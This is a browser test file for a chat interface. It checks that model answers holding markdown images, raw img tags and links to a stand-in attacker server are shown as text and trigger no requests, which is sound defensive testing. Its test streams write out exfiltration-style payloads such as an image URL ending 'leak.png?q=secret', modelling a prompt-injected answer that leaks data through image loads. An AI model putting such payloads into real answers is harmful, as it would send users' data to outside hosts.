"""A model answer cannot make the browser load anything: images and raw HTML in the answer are
shown as text (while streaming and after), and a link's real address is written out.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from components.devtools.browser import (
    assert_no_exception,
    console_errors,
    send_prompt,
    shots_dir,
    wait_for_idle,
)
from components.devtools.upstream import FakeUpstream, sse
from components.i18n import t

SHOTS = shots_dir("safety")


@pytest.fixture(scope="module")
def app_env(operator_env: dict[str, str]) -> dict[str, str]:
    return operator_env


@pytest.fixture
def tracker() -> Iterator[FakeUpstream]:
    """A second server standing in for an attacker's: it records every request it gets."""
    with FakeUpstream() as fake:
        yield fake


def test_answer_cannot_load_images_or_html_and_shows_link_addresses(app, new_page, up, tracker):
    origin = tracker.origin
    # Split the way a stream may split it: "!" and "<" arrive before what makes them an image/tag.
    deltas = [
        "图里有一段隐藏的文字。\n\n",
        "!",
        f"[x]({origin}/leak.png?q=secret)\n\n",
        "<",
        f'img src="{origin}/leak2.png">\n\n',
        "更多信息见 ",
        f"[docs]({origin}/docs)",
        "。",
    ]
    up.enqueue(sse(deltas, delay=0.1))
    page = new_page(app)
    send_prompt(page, "图里写了什么？")

    answer = page.get_by_test_id("stChatMessage").last
    expect(answer).to_contain_text("更多信息见")
    wait_for_idle(page)
    expect(answer.get_by_test_id("stCaptionContainer")).to_be_visible()  # stream complete
    page.wait_for_load_state("networkidle")

    assert tracker.requests == [], [(r.method, r.path) for r in tracker.requests]
    expect(page.locator(f'img[src*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    expect(page.locator(f'[srcset*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    # What the model wrote is shown, as text.
    expect(answer).to_contain_text(f"{origin}/leak.png?q=secret")
    expect(answer).to_contain_text(f'img src="{origin}/leak2.png"')
    expect(answer.get_by_text(f"{origin}/docs")).to_be_visible()
    link = answer.get_by_role("link", name=f"{origin}/docs")
    expect(link).to_have_attribute("href", f"{origin}/docs")
    assert tracker.requests == []
    assert_no_exception(page)
    assert console_errors(page) == []


@pytest.mark.parametrize(
    ("locale", "lang", "question", "viewport"),
    [
        ("zh-CN", "zh", "图里写了什么？", (1280, 900)),
        ("en-US", "en", "What does it say?", (1280, 900)),
        ("zh-CN", "zh", "图里写了什么？", (390, 844)),
        ("en-US", "en", "What does it say?", (390, 844)),
    ],
)
def test_blocked_image_is_a_placeholder_and_html_link_shows_its_clean_address(
    app, new_page, up, tracker, locale, lang, question, viewport
):
    origin = tracker.origin
    picture, html_picture, page_url = f"{origin}/x.png", f"{origin}/y.png", f"{origin}/page"
    deltas = [
        f"![logo]({picture})\n\n",
        f'<img src="{html_picture}">\n\n',
        f"See <a href=\"{page_url}\">x</a>, and <a href='{page_url}?a=1&amp;b=2'>y</a>.",
    ]
    up.enqueue(
        sse(
            deltas,
            model="gpt-4o-mini-2024-07-18",
            usage={"prompt_tokens": 8511, "completion_tokens": 34, "total_tokens": 8545},
        )
    )
    page = new_page(app, locale=locale, viewport=viewport)
    send_prompt(page, question)
    answer = page.get_by_test_id("stChatMessage").last
    caption = answer.get_by_test_id("stCaptionContainer")
    expect(caption).to_be_visible()  # stream complete, the final render is on the page
    wait_for_idle(page)
    page.wait_for_load_state("networkidle")

    # The picture: a muted placeholder with its alt text and its address as code, not a link.
    expect(answer.get_by_text("🖼️")).to_have_count(1)
    expect(answer.locator("em", has_text="logo")).to_be_visible()
    expect(answer.locator("code", has_text=picture)).to_have_text(picture)
    expect(answer.locator("code", has_text=html_picture)).to_have_text(
        f'<img src="{html_picture}">'
    )
    expect(page.locator(f'img[src*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    expect(page.locator(f'[srcset*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    expect(page.locator(f'a[href*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    # The HTML links: their text and their clean address, as code (no trailing quote or ">").
    expect(answer).to_contain_text(f"See x ({page_url}), and y ({page_url}?a=1&b=2).")
    expect(answer.locator("code", has_text=page_url).first).to_have_text(page_url)
    assert "%22" not in answer.inner_text() and '">' not in answer.inner_text().replace(
        f'<img src="{html_picture}">', ""
    )
    # The quiet line reads as words, in the page's language.
    tokens = t("meta.tokens", lang, prompt="8,511", completion="34")
    expect(caption).to_contain_text(f"gpt-4o-mini · {tokens}")
    expect(caption).not_to_contain_text("2024-07-18")

    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=SHOTS / f"answer-{lang}-{viewport[0]}.png", full_page=True)
    assert tracker.requests == [], [(r.method, r.path) for r in tracker.requests]
    assert_no_exception(page)
    assert console_errors(page) == []
